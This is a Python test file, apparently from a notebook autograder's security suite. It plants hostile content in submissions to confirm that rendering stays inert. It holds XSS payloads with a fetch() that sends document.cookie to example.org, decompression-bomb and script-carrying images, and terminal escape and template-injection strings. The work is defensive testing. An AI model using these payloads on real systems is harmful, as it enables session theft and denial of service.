"""For the browser of whoever reads: scripts, links and pictures."""

from __future__ import annotations

import json

from nbformat.v4 import new_code_cell, new_markdown_cell

from grading.grade import Status
from tests.grading.handing_in import Work, submission
from tests.grading.hostile.attack import attack

SCRIPT = "window.hacked = true; fetch('https://example.org/?' + document.cookie)"
INJECTIONS = [
    f"<script>{SCRIPT}</script>",
    f'<img src="x" onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    f'<iframe srcdoc="&lt;script&gt;parent.{SCRIPT}&lt;/script&gt;"></iframe>',
    f'<details open ontoggle="{SCRIPT}">x</details>',
    f'<a href="javascript:{SCRIPT}" id="bait">look</a>',
    f"[look](javascript:{SCRIPT.replace(' ', '%20')})",
    "![](https://example.org/pixel.png)",
    f"`</code></pre><script>{SCRIPT}</script>`",
    f'</textarea></script><script>{SCRIPT}</script><style>@import "https://example.org/x";</style>',
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
]


@submission()
def scripts_for_readers(work: Work) -> None:
    """HTML, SVG, JavaScript and links wherever text can stand: inert, and nothing earned."""
    lines = "\n".join(INJECTIONS)
    attack(
        work,
        f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        for text in {INJECTIONS!r}:
            print(text)
            display(HTML(text))
            display(Markdown(text))
            display({{"image/svg+xml": text, "text/html": text, "text/latex": text,
                      "application/javascript": {SCRIPT!r}}}, raw=True)
        display(Javascript({SCRIPT!r}))
        print("\\x1b[31m<script>{SCRIPT}</script>\\x1b[0m")
        """,
    )
    work.notebook.cells.insert(1, new_markdown_cell(lines))
    work.notebook.cells.insert(2, new_code_cell(f'raise ValueError("""{INJECTIONS[1]}""")'))
    for cell in work.notebook.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = lines
    work.notebook.metadata["title"] = INJECTIONS[0]
    work.notebook.metadata["widgets"] = json.loads('{"x": "</script>"}')


PICTURES = r"""
import base64, struct, zlib
from IPython.display import display

def part(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

def png(width, height, rows, *parts):
    head = part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    whole = b"\x89PNG\r\n\x1a\n" + head + b"".join(parts)
    return whole + part(b"IDAT", zlib.compress(rows, 9)) + part(b"IEND", b"")

told = part(b"tEXt", b"Comment\0<script>window.hacked = true</script>")
pictures = [
    png(60_000, 60_000, bytes(40_000_000)),
    png(2**31 - 1, 1, b"\0\0"),
    png(1, 1, b"\0\0", told) + b"<script>window.hacked = true</script>",
    png(1, 1, b"\0\0", part(b"iCCP", b"x\0\0" + zlib.compress(bytes(30_000_000), 9))),
    b"GIF89a/*<script>window.hacked = true</script>*/=1",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='window.hacked = true'/>",
    b"",
]
for data in pictures:
    for kind in ("image/png", "image/jpeg", "image/gif", "image/webp", "application/pdf"):
        display({kind: base64.b64encode(data).decode(), "text/plain": "a picture"}, raw=True)
display({"image/png": "not base64 \" onerror=\"window.hacked = true"}, raw=True)
display({"image/png": ["a", {"b": 1}], "text/plain": 7, "text/html": None}, raw=True)
"""


@submission(status=Status.ATTENTION)  # for what is no text where a picture's text belongs
def pictures_for_readers(work: Work) -> None:
    """Pictures that unpack to gigabytes, carry scripts or are none: inert, and nothing earned."""
    attack(work, PICTURES)
    picture = {"image/svg+xml": f"<svg onload='{SCRIPT}'/>", "image/png": "AAAA"}
    cell = new_markdown_cell("![x](attachment:a.png) ![y](attachment:b)")
    cell["attachments"] = {"a.png": picture, "b": {"text/html": INJECTIONS[0]}}
    work.notebook.cells.insert(1, cell)


@submission()
def widgets_for_readers(work: Work) -> None:
    """Widgets whose state holds scripts, in outputs and in the notebook itself: inert."""
    view = "application/vnd.jupyter.widget-view+json"
    state = {
        "model_name": "HTMLModel",
        "model_module": "@jupyter-widgets/controls",
        "model_module_version": "2.0.0",
        "state": {"value": INJECTIONS[0], "description": INJECTIONS[1]},
    }
    attack(
        work,
        f"""
        from IPython.display import display
        for kind in ({view!r}, "application/vnd.vega.v5+json", "application/vnd.plotly.v1+json",
                     "application/vnd.holoviews_load.v0+json", "text/x-unknown"):
            display({{kind: {{"model_id": "a", "x": {INJECTIONS[0]!r}}}}}, raw=True,
                    metadata={{"isolated": True, "onload": {SCRIPT!r}}})
        """,
    )
    work.notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"a": state},
        }
    }
    for cell in work.notebook.cells:
        cell.metadata["widgets"] = {"x": INJECTIONS[0]}


@submission()
def letters_for_readers(work: Work) -> None:
    """Letters that move the cursor, turn the line, open links or end the page: told as they are."""
    attack(
        work,
        r"""
        for text in ("\x1b]8;;https://example.org\x07click\x1b]8;;\x07", "\x1b[2J\x1b[1;1H100/100",
                     "\x1b]0;title\x07", "\x1b]52;c;aGFja2Vk\x07", "\x1b[8mhidden", "\x9b31m",
                     "\u202e001 / 001", "\u2066\u2069\u200b\ufeff", "\0", "\x08" * 500, "\r" * 9,
                     "\ud800", "a\u0300" + "\u0300" * 5000, "]]>", "-->", "{{ 7 * 7 }}", "{% x %}"):
            print(text)
        raise ValueError("\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07\u202e")
        """,
    )
